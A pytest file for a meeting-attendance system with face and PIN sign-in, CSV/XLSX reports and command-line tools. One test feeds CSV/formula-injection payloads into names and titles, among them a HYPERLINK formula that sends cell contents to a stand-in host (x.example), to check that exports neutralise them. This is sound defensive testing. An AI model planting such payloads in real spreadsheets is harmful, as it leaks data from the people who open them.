"""Attendance reports (CSV and XLSX read back by openpyxl) and the command-line tools."""

from __future__ import annotations

import argparse
import csv
import os
from datetime import timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from core.attendance import SignInError, sign_in
from core.audit import recent
from core.models import FaceTemplate, Meeting, Member
from robot_assistant import face_cli
from robot_assistant.face.reports import build_report, export_csv, export_xlsx
from tests.face.conftest import T0, add_meeting, seed_members

TZ = ZoneInfo("Asia/Shanghai")


def test_report_counts_rates_and_exports(sqlite_db, tmp_path: Path):
    with sqlite_db.session() as s:
        seed_members(s, ["m1", "m2", "m3", "m4"])
        first = add_meeting(s, roster=["M1", "M2", "M3"])
        second = add_meeting(s, starts=T0 + timedelta(days=7), roster=["M1", "M2", "M3", "M4"])
        s.commit()
        by = {m.number: m for m in s.scalars(select(Member))}
        sign_in(s, first, by["M1"], method="face", terminal_id="k1", now=T0 - timedelta(minutes=5))
        sign_in(s, first, by["M2"], method="pin", terminal_id="k1", now=T0 + timedelta(minutes=12))  # late
        with pytest.raises(SignInError, match="不在本次会议名单"):  # a 支委会 takes no walk-ins
            sign_in(s, first, by["M4"], method="face", terminal_id="k1", now=T0)
        sign_in(s, first, by["M4"], method="admin", terminal_id="k1", now=T0, admin="admin:li")  # 列席
        sign_in(s, second, by["M3"], method="face", terminal_id="k1", now=T0 + timedelta(days=7))
        report = build_report(s, TZ)
    m1, m2 = report.meetings
    assert (m1.expected, m1.present, m1.late, m1.absent, m1.extra) == (3, 2, 1, 1, 1)
    assert m1.attendance_rate == pytest.approx(2 / 3, abs=1e-4) and m1.late_rate == 0.5
    assert (m2.expected, m2.present, m2.absent) == (4, 1, 3)
    (b,) = report.branches
    assert (b.meetings, b.expected, b.present, b.late, b.absent) == (2, 7, 3, 1, 4)
    statuses = {(d.meeting_id, d.member_number): d.status for d in report.details}
    assert statuses[(m1.meeting_id, "M2")] == "late" and statuses[(m1.meeting_id, "M4")] == "extra"
    assert statuses[(m1.meeting_id, "M3")] == "absent"
    assert report.details[0].signed_at == "2026-11-26 14:25:00"  # local time

    detail, summary = export_csv(report, tmp_path / "out" / "attendance.csv")
    rows = list(csv.reader(detail.open(encoding="utf-8-sig")))
    assert rows[0][:3] == ["会议编号", "会议类型", "会议名称"] and len(rows) == 1 + len(report.details)
    assert rows[1][rows[0].index("姓名")] == "m1"
    assert len(list(csv.reader(summary.open(encoding="utf-8-sig")))) == 3
    assert detail.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the Chinese right

    xlsx = export_xlsx(report, tmp_path / "attendance.xlsx")
    wb = load_workbook(xlsx)
    assert wb.sheetnames == ["会议汇总", "支部汇总", "签到明细"]
    sheet = wb["会议汇总"]
    head = [c.value for c in sheet[1]]
    assert sheet.cell(2, head.index("出席率") + 1).value == pytest.approx(0.6667, abs=1e-4)
    assert sheet.cell(2, head.index("出席率") + 1).number_format == "0.0%"
    assert wb["签到明细"].max_row == 1 + len(report.details)
    with sqlite_db.session() as s:
        only_second = build_report(s, TZ, start=T0 + timedelta(days=1))
    assert [m.meeting_id for m in only_second.meetings] == [m2.meeting_id]


def parser() -> argparse.ArgumentParser:
    p = argparse.ArgumentParser()
    p.add_argument("--config")
    sub = p.add_subparsers(dest="command")
    for name, (_, help_text) in face_cli.COMMANDS.items():
        face_cli.add_arguments(name, sub.add_parser(name, help=help_text))
    return p


def cli(*argv: str) -> int:
    args = parser().parse_args(list(argv))
    return face_cli.COMMANDS[args.command][0](args)


@pytest.fixture
def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("DANGJIAN__SITE__DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("DANGJIAN_FACE_KEY", raising=False)
    return tmp_path / "data"


def test_cli_meetings_report_enroll_and_erase(data_dir: Path, tmp_path: Path, faces: Path, engine, capsys):
    assert cli("meetings", "create", "--type", "党课", "--title", "专题党课", "--branch", "B01",
               "--start", "2030-06-01 09:00", "--minutes", "60", "--roster", "M0101,M0102", "--actor", "admin:li") == 0
    out = capsys.readouterr().out
    assert "created meeting" in out and "(2 on the roster)" in out
    assert cli("meetings", "create", "--type", "茶话会", "--title", "x", "--branch", "B01", "--start", "2030-06-01") == 2
    assert "unknown meeting type" in capsys.readouterr().err
    assert cli("meetings", "create", "--title", "x") == 2
    assert "--type" in capsys.readouterr().err
    assert cli("meetings", "list", "--all") == 0
    listing = capsys.readouterr().out
    line = next(x for x in listing.splitlines() if "专题党课" in x)
    meeting_id = int(line.split("\t")[0])
    assert "2030-06-01 09:00" in line
    assert cli("meetings", "close", str(meeting_id)) == 0

    assert cli("report", "--meeting", str(meeting_id), "--out", str(tmp_path / "r.xlsx")) == 0
    assert load_workbook(tmp_path / "r.xlsx")["会议汇总"].cell(2, 5).value is not None
    assert cli("report", "--branch", "B01", "--out", str(tmp_path / "r.csv")) == 0
    assert (tmp_path / "r_summary.csv").is_file()

    photos = tmp_path / "photos" / "M0101"
    photos.mkdir(parents=True)
    for p in sorted((faces / "obama").iterdir())[:2]:
        (photos / p.name).write_bytes(p.read_bytes())
    assert cli("enroll", str(photos.parent), "--consent", "v1", "--jitters", "1") == 1
    assert "no face key" in capsys.readouterr().err
    assert cli("enroll", "--make-key") == 0
    key = data_dir.parent / "data-keys" / "face.key"  # beside the data folder, not in it (#17)
    assert oct(key.stat().st_mode & 0o777) == "0o600" and not (data_dir / "face.key").exists()
    assert cli("enroll", str(photos.parent), "--jitters", "1") == 2
    assert "consent" in capsys.readouterr().err
    assert cli("enroll", str(photos.parent), "--consent", "v1", "--jitters", "1", "--actor", "admin:li") == 0
    assert "M0101: enrolled (2 templates)" in capsys.readouterr().out
    assert cli("members", "list") == 0
    assert "templates 2\tconsent v1\tready for sface" in capsys.readouterr().out

    assert cli("members", "erase", "M0101", "--yes", "--actor", "admin:li") == 0
    assert "2 templates" in capsys.readouterr().out
    from core.db import Database

    db = Database(f"sqlite:///{data_dir / 'dangjian.db'}")
    with db.session() as s:
        assert s.scalar(select(func.count()).select_from(FaceTemplate)) == 0
        assert recent(s, "face.erase")[0].actor == "admin:li"
        assert s.get(Meeting, meeting_id).closed
    db.dispose()
    assert cli("members", "erase", "M9999", "--yes") == 2


def test_commands_fit_the_launcher_table():
    for name, (handler, help_text) in face_cli.COMMANDS.items():
        assert callable(handler) and help_text and name in ("enroll", "members", "face-check", "meetings", "report")
    assert os.path.basename(face_cli.__file__) == "face_cli.py"


def test_formula_cells_are_text_in_xlsx_and_escaped_in_csv(sqlite_db, tmp_path: Path):
    evil = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    with sqlite_db.session() as s:
        seed_members(s, ["m1", "m2"])
        first = add_meeting(s, roster=["M1", "M2"])
        first.title_zh = evil[0]
        by = {m.number: m for m in s.scalars(select(Member))}
        by["M1"].name, by["M2"].name = evil[1], evil[2]
        s.commit()
        sign_in(s, first, by["M1"], method="face", terminal_id="@k1", now=T0)
        report = build_report(s, TZ, now=T0 + timedelta(hours=2))
    xlsx = export_xlsx(report, tmp_path / "r.xlsx")
    wb = load_workbook(xlsx)
    formulas = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    details = wb["签到明细"]
    head = [c.value for c in details[1]]
    assert details.cell(2, head.index("会议名称") + 1).value == evil[0]  # the text itself, kept as text
    signed = details.cell(2, head.index("签到时间") + 1).value
    assert signed.year == 2026 and signed.hour == 14  # a real date-time in local time
    for path in export_csv(report, tmp_path / "r.csv"):
        for row in csv.reader(path.open(encoding="utf-8-sig")):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    rows = list(csv.reader((tmp_path / "r.csv").open(encoding="utf-8-sig")))
    assert rows[1][rows[0].index("会议名称")] == "'" + evil[0]


def test_report_refuses_unknown_branch_meeting_inverted_dates_and_file_type(data_dir: Path, tmp_path: Path,
                                                                           capsys):
    assert cli("report", "--branch", "B99") == 2
    assert "unknown branch" in capsys.readouterr().err
    assert cli("report", "--meeting", "99999") == 2
    assert "unknown meeting" in capsys.readouterr().err
    assert cli("report", "--from", "2026-12-01", "--to", "2026-11-01") == 2
    assert "before the start" in capsys.readouterr().err
    assert cli("report", "--out", str(tmp_path / "r.xls")) == 2
    assert ".csv or .xlsx" in capsys.readouterr().err and not (tmp_path / "r.xls").exists()
    assert cli("report", "--branch", "B01") == 0


def test_member_pin_set_and_reset_from_the_command_line(data_dir: Path, capsys):
    from core.db import Database
    from core.secrets import MEMBER_PIN, Lockout, verify_pin

    assert cli("members", "set-pin", "M0101", "--pin", "１３５７９２", "--actor", "admin:li") == 0  # full-width: normalised
    assert cli("members", "set-pin", "M0101", "--pin", "1234") == 2
    assert "6 to 12 digits" in capsys.readouterr().err
    assert cli("members", "set-pin", "M0101", "--pin", "12345a") == 2
    assert "digits 0-9 only" in capsys.readouterr().err
    assert cli("members", "set-pin", "M0101", "--pin", "123456") == 2
    assert "too easy" in capsys.readouterr().err
    assert cli("members", "set-pin", "M9999", "--pin", "135792") == 2
    db = Database(f"sqlite:///{data_dir / 'dangjian.db'}")
    with db.session() as s:
        member = s.scalars(select(Member).where(Member.number == "M0101")).one()
        assert verify_pin("135792", member.pin_hash) and verify_pin("１３５７９２", member.pin_hash)
        assert recent(s, "member.pin_set")[0].actor == "admin:li"
        Lockout("pin:M0101", MEMBER_PIN).fail(s, T0)
    db.dispose()
    capsys.readouterr()
    assert cli("members", "reset-pin") == 2
    assert capsys.readouterr().err == "error: members reset-pin needs a member NUMBER\n"
    assert cli("members", "reset-pin", "M9999") == 2
    assert capsys.readouterr().err == "error: no member 'M9999': `members list` shows the member numbers\n"
    assert cli("members", "reset-pin", "M0101") == 0
    assert capsys.readouterr() == ("PIN removed for M0101; wrong-PIN lockout cleared\n", "")
    db = Database(f"sqlite:///{data_dir / 'dangjian.db'}")
    with db.session() as s:
        assert s.scalars(select(Member).where(Member.number == "M0101")).one().pin_hash is None
        assert Lockout("pin:M0101", MEMBER_PIN).state(s, T0).failures == 0
        assert recent(s, "member.pin_reset")
    db.dispose()


def test_pins_are_ascii_digits_full_width_normalised_everything_else_refused():
    from core.secrets import PinError, check_pin_format, hash_pin, verify_pin

    stored = hash_pin("１３５７９２")  # what a Chinese input method types
    assert verify_pin("135792", stored) and verify_pin("１３５７９２", stored)  # the keypad types ASCII
    for bad in ("13579²", "١٣٥٧٩٢", "13579a", "", "12"):
        with pytest.raises(PinError):
            check_pin_format(bad)
        assert not verify_pin(bad, stored)
    with pytest.raises(PinError, match="6 to 12 digits"):
        hash_pin("1357", min_length=6)
